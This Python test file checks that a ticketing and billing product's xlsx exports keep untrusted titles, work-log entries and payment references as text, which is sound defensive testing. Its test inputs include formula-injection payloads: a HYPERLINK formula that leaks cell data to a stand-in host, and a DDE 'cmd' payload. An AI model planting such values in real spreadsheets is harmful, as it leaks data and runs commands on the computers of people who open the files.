"""Text that came from outside never becomes a formula in a workbook the product writes
(issue: hardening, formulas in exported spreadsheets): a hook title in the monthly report,
a work-log entry in xinxiang's service records, a payment reference in the statement."""

from __future__ import annotations

import io
import uuid
from datetime import datetime, timedelta

from openpyxl import load_workbook
from opspact.calendar import SHANGHAI
from opspact.testing.plugin import auth

HOSTILE = '=HYPERLINK("http://x.test/?leak="&D2,"点击")'


def _no_formula_and_kept_as_text(raw: bytes, text: str) -> None:
    assert b"<f>" not in raw and b"<f " not in raw
    book = load_workbook(io.BytesIO(raw))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and text in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


def test_monthly_report_keeps_a_formula_title_as_text(gateway):
    engineer = auth("zhuhai", "vendor_engineer")
    title = f"{HOSTILE}{uuid.uuid4().hex[:6]}"
    r = gateway.post("/api/ticketing/tickets", headers=engineer, json={
        "system": "smart-station", "kind": "incident", "title": title})
    assert r.status_code == 201, r.text
    period = datetime.now(SHANGHAI).strftime("%Y-%m")
    xlsx = gateway.get("/api/ticketing/reports/monthly", headers=engineer,
                       params={"period": period, "format": "xlsx"})
    assert xlsx.status_code == 200, xlsx.text
    _no_formula_and_kept_as_text(xlsx.content, title)


def test_service_records_keep_a_formula_handling_as_text(gateway):
    engineer = auth("xinxiang", "vendor_engineer")
    handling = f"+cmd|' /C calc'!A0 {uuid.uuid4().hex[:6]}"
    r = gateway.post("/api/ticketing/worklog", headers=engineer, json={
        "category": "training", "occurred_at": (datetime.now(SHANGHAI) - timedelta(minutes=5)).isoformat(),
        "initiator": "新开刻章店", "handler": "工程师", "handling": handling, "minutes_spent": 30})
    assert r.status_code == 201, r.text
    now = datetime.now(SHANGHAI)  # the day an hour ago too: the test may run across midnight
    xlsx = gateway.get("/api/ticketing/service-records", headers=engineer, params={
        "from": (now - timedelta(hours=1)).date().isoformat(), "to": now.date().isoformat(),
        "format": "xlsx"})
    assert xlsx.status_code == 200, xlsx.text
    assert b"<f>" not in xlsx.content


def test_statement_keeps_a_formula_reference_as_text(gateway):
    finance = auth("wuqia", "finance")
    reference = f"=1+1-{uuid.uuid4().hex[:6]}"
    r = gateway.post("/api/billing/payments", headers=finance, json={
        "milestone": "first", "amount": "0.01", "received_on": "2024-01-05", "reference": reference})
    assert r.status_code in (201, 409, 422), r.text
    if r.status_code != 201:  # the milestone may want an invoice first: record one
        inv = gateway.post("/api/billing/invoices", headers=finance, json={
            "milestone": "first", "number": f"FP{uuid.uuid4().hex[:8]}", "kind": "vat_special",
            "amount": "0.01", "issued_on": "2024-01-04"})
        assert inv.status_code == 201, inv.text
        r = gateway.post("/api/billing/payments", headers=finance, json={
            "milestone": "first", "amount": "0.01", "received_on": "2024-01-05", "reference": reference})
        assert r.status_code == 201, r.text
    xlsx = gateway.get("/api/billing/statement/export", headers=finance,
                       params={"from": "2023-11-30", "to": "2026-12-31"})
    assert xlsx.status_code == 200, xlsx.text
    _no_formula_and_kept_as_text(xlsx.content, reference)
